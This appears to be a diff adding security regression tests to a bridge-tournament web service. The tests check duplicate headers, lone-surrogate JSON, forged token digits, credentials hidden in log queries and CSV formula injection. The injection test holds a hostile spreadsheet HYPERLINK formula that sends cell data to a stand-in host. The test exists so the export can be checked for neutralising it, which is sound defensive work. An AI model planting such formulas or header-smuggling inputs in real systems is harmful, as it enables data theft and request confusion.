@@ -1,10 +1,15 @@
 """What the service refuses, over real HTTP: bodies over the limit (413, a 100 MB stream included, the server's
 memory bounded), JSON it cannot honour (NaN, Infinity, lone surrogates, deep nesting: 422, never 500), 422s
-that do not echo large input, loosely typed adjustments; and what every answer carries (security headers);
-the database file private; the API docs served from the package."""
+that do not echo large input, loosely typed adjustments, a body the guard and FastAPI could read two ways
+(repeated Content-Type or Content-Length: 400; not JSON: 415) and the journal acknowledging after such an
+attack; what every answer carries (security headers); the database file private; the API docs served from the
+package."""
 from __future__ import annotations
 
+import csv
+import io
 import os
+import signal
 import stat
 from collections.abc import Iterator
 from pathlib import Path
@@ -12,8 +17,9 @@ from pathlib import Path
 import httpx
 import pytest
 
+from results import cell_text
 from service.dealing import deal_for
-from service.testing import ServerProcess
+from service.testing import ServerProcess, raw_request
 
 CONFIG = {"tables": [{"id": "1"}, {"id": "2"}], "regulation": {"spectators": {"delay_s": 0}}}
 MB = 1024 * 1024
@@ -158,3 +164,113 @@ def test_the_database_is_private(server: ServerProcess) -> None:
         if os.path.exists(p):
             assert stat.S_IMODE(os.stat(p).st_mode) == 0o600, p
     assert os.path.exists(server.database + "-wal")
+
+
+MITCHELL_3 = {"name": "Tuesday pairs", "scoring": "MP",
+              "movement": {"kind": "mitchell", "tables": 3, "boards_per_round": 2}}
+JSON, TEXT = ("Content-Type", "application/json"), ("Content-Type", "text/plain")
+
+
+def test_a_body_read_two_ways_is_refused_and_the_journal_keeps_acknowledging(tmp_path: Path) -> None:
+    """Two Content-Type headers once let a name with a lone surrogate past the strict-JSON check (the guard read
+    the last, FastAPI the first) into the journal, whose writer died: nothing was acknowledged any more and the
+    process ignored SIGTERM. Now the guard refuses the request, and whatever reaches the journal cannot kill it."""
+    srv = ServerProcess(tmp_path, {"regulation": {"spectators": {"delay_s": 0}}}).start()
+    try:
+        with srv.client(srv.token, timeout=5) as d:
+            assert d.post("/api/event", json=MITCHELL_3).status_code == 200
+            auth = ("Authorization", f"Bearer {srv.token}")
+            name = b'{"N":"a\\ud800"}'
+            size = ("Content-Length", str(len(name)))
+            for ctypes in ([JSON, TEXT], [TEXT, JSON], [JSON, JSON]):
+                status, body = raw_request(srv.port, "POST", "/api/tables/1/players", [auth, size, *ctypes], name, 5)
+                assert status == 400 and b"content-type" in body, (ctypes, status, body)
+            status, _ = raw_request(srv.port, "POST", "/api/tables/1/players",
+                                    [auth, size, ("Content-Length", "5"), JSON], name, 5)
+            assert status == 400                    # two lengths: which one ends the body?
+            status, body = raw_request(srv.port, "POST", "/api/tables/1/players", [auth, size, TEXT], name, 5)
+            assert status == 415 and b"JSON" in body, (status, body)
+            status, body = raw_request(srv.port, "POST", "/api/tables/1/players", [auth, size, JSON], name, 5)
+            assert status == 422 and b"surrogate" in body, (status, body)
+            # the journal still acknowledges: names, a table event, a director call
+            r = d.post("/api/tables/1/players", json={"N": "Ann", "S": "Bob"})
+            assert r.status_code == 200, r.text
+            assert d.post("/api/tables/2/events", json={"type": "board", "board": 3}).status_code == 200
+            assert d.post("/api/tables/2/director").status_code == 200
+            health = d.get("/api/health").json()
+            assert health["status"] == "ok" and health["journal_failure"] is None and health["events"] == 1
+            assert d.get("/api/tables/2").json()["seq"] == 1
+    finally:
+        assert srv.proc is not None
+        srv.proc.send_signal(signal.SIGTERM)
+        try:
+            srv.proc.wait(5)
+        finally:
+            srv.kill()
+    assert "journal-writer" not in srv.log_path.read_text()
+
+
+def test_a_seat_token_has_one_spelling(tmp_path: Path) -> None:
+    """A token's round and generation are ASCII digits written one way: '²' (a digit to ``str.isdigit``, not
+    to ``int``) was a 500, and '00', '٠' (Arabic-Indic zero) or '０' (full width) were the same credential."""
+    with ServerProcess(tmp_path, {"tables": [{"id": "1"}]}) as srv, srv.seat_client("1", "N") as north:
+        north.get("/api/whoami")
+        token = north.auth.token                                              # type: ignore[attr-defined]
+        kind, table, seat, rnd, mark, gen, mac = token.split(".")
+        with srv.client(token) as c:
+            assert c.get("/api/whoami").json() == {"role": "seat", "table": "1", "seat": "N"}
+        arabic, wide = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"), str.maketrans("0123456789", "０１２３４５６７８９")
+        spellings = [("0" + rnd, gen), ("+" + rnd, gen), (" " + rnd, gen), (rnd.translate(arabic), gen),
+                     (rnd.translate(wide), gen), ("²", gen), (rnd, "0" + gen), (rnd, gen.translate(arabic)),
+                     (rnd, "²"), (rnd, gen + "_")]
+        for r, g in spellings:
+            forged = ".".join((kind, table, seat, r, mark, g, mac))
+            assert httpx.get(srv.base + "/api/whoami", params={"token": forged}).status_code == 401, (r, g)
+            link = ".".join(("link", table, seat, r, mark, g, mac))
+            assert httpx.post(srv.base + "/api/signin", json={"code": link}).status_code == 401, (r, g)
+            header = f"Bearer {forged}"
+            if all(ord(ch) < 256 for ch in header):                          # a header carries Latin-1 only
+                status, _ = raw_request(srv.port, "GET", "/api/whoami", [("Authorization", header)], timeout=5)
+                assert status == 401, (r, g, status)
+
+
+def test_no_spelling_of_a_credential_parameter_reaches_the_log(tmp_path: Path) -> None:
+    """The server reads ``%74oken=`` as ``token=``: the access log blanks every spelling of a credential
+    parameter (percent-encoded, once or twice, in any case)."""
+    srv = ServerProcess(tmp_path, {"tables": [{"id": "1"}]}, extra_args=("--log-level", "info"))
+    with srv, srv.client() as anon:
+        secret = srv.token
+        for query in (f"%74oken={secret}", f"TOKEN={secret}", f"ToK%65n={secret}", f"x=1&%74%6F%6B%65%6E={secret}",
+                      f"sign%69n={secret}", f"%2574oken={secret}", f"x=1;token={secret}"):
+            anon.get(f"/api/whoami?{query}")
+        assert anon.get(f"/api/whoami?%74oken={secret}").json()["role"] == "director"       # read as token=
+    log = srv.log_path.read_text()
+    assert "GET /api/whoami?" in log, "the access log was written"
+    assert secret not in log, [line for line in log.splitlines() if secret in line][:3]
+
+
+def test_names_in_the_csv_exports_cannot_become_formulas(tmp_path: Path) -> None:
+    """A name a seat enters is written to the ranking CSV: one a spreadsheet would run (``=HYPERLINK``, ``@``,
+    ``+``, ``-``) starts with ``'``; ordinary names and negative scores read back as they were."""
+    hostile = {"N": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "S": "@SUM(1+1)"}
+    with ServerProcess(tmp_path, {"regulation": {"spectators": {"delay_s": 0}}}) as srv, \
+            srv.client(srv.token) as d:
+        assert d.post("/api/event", json=MITCHELL_3).status_code == 200
+        assert d.post("/api/tables/1/players", json=hostile).status_code == 200
+        assert d.post("/api/tables/1/players", json={"E": "-Ann", "W": "Bob Li"}).status_code == 200
+        for body in ({"type": "board", "board": 1}, {"type": "contract", "contract": "4S", "declarer": "N"},
+                     {"type": "claim", "seat": "N", "tricks": 8},
+                     {"type": "claim_response", "seat": "E", "accept": True},
+                     {"type": "claim_response", "seat": "W", "accept": True}):
+            assert d.post("/api/tables/1/events", json=body).status_code == 200, body
+        ranking = d.get("/api/exports/csv", params={"part": "ranking"})
+        travellers = d.get("/api/exports/csv")
+    assert ranking.status_code == 200 and travellers.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(ranking.text)))
+    cells = [r["names"] for r in rows] + [v for r in rows for v in r.values()]
+    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), cells
+    names = {cell_text(r["names"]) for r in rows}
+    assert " - ".join(hostile.values()) in names and "-Ann - Bob Li" in names, names
+    assert any(r["names"].startswith("'=HYPERLINK") for r in rows)
+    scores = [r["score_ns"] for r in csv.DictReader(io.StringIO(travellers.text))]
+    assert scores == ["-100"], scores                                      # a number stays a number
